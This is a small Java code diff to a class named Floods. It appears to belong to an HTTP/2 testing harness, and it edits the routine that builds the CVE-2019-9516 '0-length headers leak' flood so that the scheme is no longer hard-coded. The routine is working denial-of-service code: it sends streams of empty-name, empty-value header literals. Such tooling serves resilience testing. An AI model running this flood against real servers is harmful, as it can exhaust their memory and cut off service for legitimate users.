@@ -140,7 +140,8 @@ public final class Floods {
         return Http2Attack.begun("0-length headers leak, CVE-2019-9516", (wire, _, size) -> {
             for (int stream = 1; stream < 2 * size; stream += 2) {
                 ByteArrayOutputStream block = new ByteArrayOutputStream();
-                block.writeBytes(wire.block(":method: GET", ":scheme: http", ":path: /plaintext", ":authority: a"));
+                block.writeBytes(
+                        wire.block(":method: GET", ":scheme: " + wire.scheme(), ":path: /plaintext", ":authority: a"));
                 for (int i = 0; i < 100; i++) {
                     // a literal that is not indexed, with a name of no length and a value of none
                     block.writeBytes(new byte[3]);
